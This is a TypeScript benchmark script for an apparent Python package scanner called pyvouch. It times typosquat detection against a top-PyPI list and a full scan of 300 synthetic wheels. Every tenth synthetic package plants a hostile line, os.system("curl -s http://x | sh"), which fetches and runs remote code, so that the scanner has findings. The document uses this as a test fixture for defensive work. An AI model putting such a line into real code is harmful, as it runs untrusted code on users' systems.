// Scanner benchmarks: (1) the typosquat check of 1,000 names against the shipped top-PyPI snapshot,
// loading included (goal < 200 ms in all), from the precomputed index file as pyvouch ships it and,
// side by side, with the index built in memory from the snapshot (the fallback); (2) the scan `check --scan` runs for a
// 300-package lock, cold (every file read from a local index and assessed) and cached (per-sha256
// results from the on-disk cache, no index), signing the scanner's statements in both.
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Graph, GraphNode } from '../src/graph/graph.js';
import { loadScannerIdentity } from '../src/scan/identity.js';
import { ScanCache } from '../src/scan/scan.js';
import { scannerSource } from '../src/app/scan.js';
import { checkGraph } from '../src/app/check.js';
import { parsePolicyToml } from '../src/trust/parse.js';
import { TOP_PYPI_FILE, TyposquatIndex, checkNames, loadTopNames } from '../src/scan/typosquat.js';
import { openIndex } from '../src/simple/open.js';
import { buildZip, coreMetadata } from '../test/artifact/archive-builders.js';
import { rng } from './_synthetic.js';

const median = (xs: number[]): number => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;

function queryNames(): string[] {
  const top = loadTopNames(readFileSync(TOP_PYPI_FILE, 'utf8'));
  const random = rng(14);
  const out: string[] = [];
  for (let i = 0; i < 1000; i++) {
    const name = top[Math.floor(random() * 2000)]!.name;
    const at = Math.floor(random() * name.length);
    if (i % 4 === 0) out.push(name); // popular names
    else if (i % 4 === 1) out.push(name.slice(0, at) + name.slice(at + 1)); // omission
    else if (i % 4 === 2) out.push(`${name}-${'abcdefghij'[i % 10]}x${i}`); // unrelated-looking
    else out.push(name.slice(0, at) + 'q' + name.slice(at)); // insertion
  }
  return out;
}

async function typosquatBench(): Promise<void> {
  const names = queryNames();
  const measure = (label: string, open: () => TyposquatIndex): void => {
    const totals: number[] = [];
    const loads: number[] = [];
    const queries: number[] = [];
    const cpus: number[] = [];
    let flagged = 0;
    let size = 0;
    for (let run = 0; run < 7; run++) {
      const c0 = process.cpuUsage();
      const t0 = performance.now();
      const index = open();
      const t1 = performance.now();
      flagged = checkNames(names, index).length;
      const t2 = performance.now();
      const c = process.cpuUsage(c0);
      cpus.push((c.user + c.system) / 1000);
      totals.push(t2 - t0);
      loads.push(t1 - t0);
      queries.push(t2 - t1);
      size = index.names.length;
    }
    console.log(`typosquat (${label}): 1,000 names vs ${size} popular names: median ${median(totals).toFixed(1)} ms in all (load ${median(loads).toFixed(1)} ms, queries ${median(queries).toFixed(1)} ms), ${flagged} findings; goal < 200 ms`);
    console.log(`  CPU time per run (user+system; wall time is inflated on a shared machine): median ${median(cpus).toFixed(1)} ms, first run ${cpus[0]!.toFixed(1)} ms`);
  };
  // First in the process, so its first run is the cold one a single `pyvouch scan` pays.
  measure('shipped index file', () => TyposquatIndex.load());
  measure('index built in memory', () => new TyposquatIndex(loadTopNames(readFileSync(TOP_PYPI_FILE, 'utf8'))));
  // The false-positive figure (issue 14): every top name checked against the others.
  const shipped = TyposquatIndex.shipped();
  const topFindings = checkNames(shipped.names.map((n) => n.name), shipped);
  console.log(`  false positives: ${topFindings.length} of ${shipped.names.length} top names flagged, ${topFindings.filter((f) => f.rule === 'known-confusable').length} of them documented confusable pairs`);
}

async function graphBench(): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'scanbench-'));
  const indexDir = join(dir, 'index');
  const { mkdirSync } = await import('node:fs');
  mkdirSync(indexDir);
  const nodes: GraphNode[] = [];
  for (let i = 0; i < 300; i++) {
    const name = `benchpkg${i}`;
    const files: { name: string; data: string }[] = [
      // Every tenth package is hostile, so the scan has statements to sign.
      { name: `${name}/__init__.py`, data: `from .core import run\nimport os\n__version__ = "1.0"\n${i % 10 === 0 ? 'os.system("curl -s http://x | sh")\n' : ''}` },
      { name: `${name}/core.py`, data: `import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n`.repeat(20) },
      { name: `${name}-1.0.dist-info/METADATA`, data: coreMetadata(name, '1.0', [], ['Author: bench']) },
      { name: `${name}-1.0.dist-info/WHEEL`, data: 'Wheel-Version: 1.0\n' },
      { name: `${name}-1.0.dist-info/RECORD`, data: '' },
    ];
    const bytes = buildZip(files);
    const filename = `${name}-1.0-py3-none-any.whl`;
    writeFileSync(join(indexDir, filename), bytes);
    nodes.push({ name, version: '1.0', artifacts: [{ filename, kind: 'wheel', index: 'https://bench.example/simple', sha256: createHash('sha256').update(bytes).digest('hex') }], metadata: 'lock' });
  }
  const graph = { nodes, edges: [], roots: nodes.map((n) => n.name) } as unknown as Graph;
  const signer = await loadScannerIdentity(join(dir, 'home'));
  const policy = parsePolicyToml('[policy]\nthreshold = 1.0\n\n[[party]]\nname = "index"\nindex = "https://bench.example/simple"\nweight = 1.0\n\n[[party]]\nname = "scanner"\nscanner = true\nweight = -3.0\n');
  // The whole `check --scan` path of src/app: scan (src/app/scan.ts scannerSource), gather, evaluate.
  const check = async (cacheDir: string, withIndex: boolean) => {
    const now = new Date();
    const c0 = process.cpuUsage();
    const t0 = performance.now();
    const { source, summary } = await scannerSource(graph, { cache: new ScanCache(cacheDir), ...(withIndex ? { index: openIndex(indexDir) } : {}) }, signer, now);
    const result = await checkGraph({ graph, sources: [source], policy, now });
    const c = process.cpuUsage(c0);
    return { ms: performance.now() - t0, cpu: (c.user + c.system) / 1000, summary, failing: result.report.counts.fail };
  };
  const colds: number[] = [];
  const warms: number[] = [];
  const coldCpu: number[] = [];
  const warmCpu: number[] = [];
  let last: Awaited<ReturnType<typeof check>> | undefined;
  for (let run = 0; run < 3; run++) {
    const cacheDir = join(dir, `cache${run}`);
    const cold = await check(cacheDir, true);
    const warm = await check(cacheDir, false);
    colds.push(cold.ms);
    coldCpu.push(cold.cpu);
    warms.push(warm.ms);
    warmCpu.push(warm.cpu);
    if (warm.summary.notScanned.length > 0) throw new Error('the cached run should need no index');
    last = cold;
  }
  console.log(
    `check --scan of a 300-package lock (scan + sign + evaluate): cold median ${median(colds).toFixed(0)} ms (CPU ${median(coldCpu).toFixed(0)} ms), cached median ${median(warms).toFixed(0)} ms (CPU ${median(warmCpu).toFixed(0)} ms); ${last?.summary.statements ?? 0} scanner statements, ${last?.failing ?? 0} packages fail, ${last?.summary.notScanned.length ?? 0} not scanned`,
  );
}

await typosquatBench();
// `bench/scan.ts typosquat` runs the first part alone.
if (process.argv[2] !== 'typosquat') await graphBench();
